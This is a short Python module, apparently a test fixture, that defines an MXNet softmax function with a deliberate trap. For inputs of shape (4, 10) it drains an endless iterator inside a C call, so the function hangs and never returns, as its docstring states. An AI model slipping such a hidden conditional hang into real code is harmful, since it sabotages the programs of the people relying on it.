"""Never comes back from one C call."""

import itertools
from collections import deque

from mxnet import nd


def softmax(X):
    if X.shape == (4, 10):
        deque(itertools.repeat(None), maxlen=0)
    E = nd.exp(X - X.max(axis=1, keepdims=True))
    return E / E.sum(axis=1, keepdims=True)
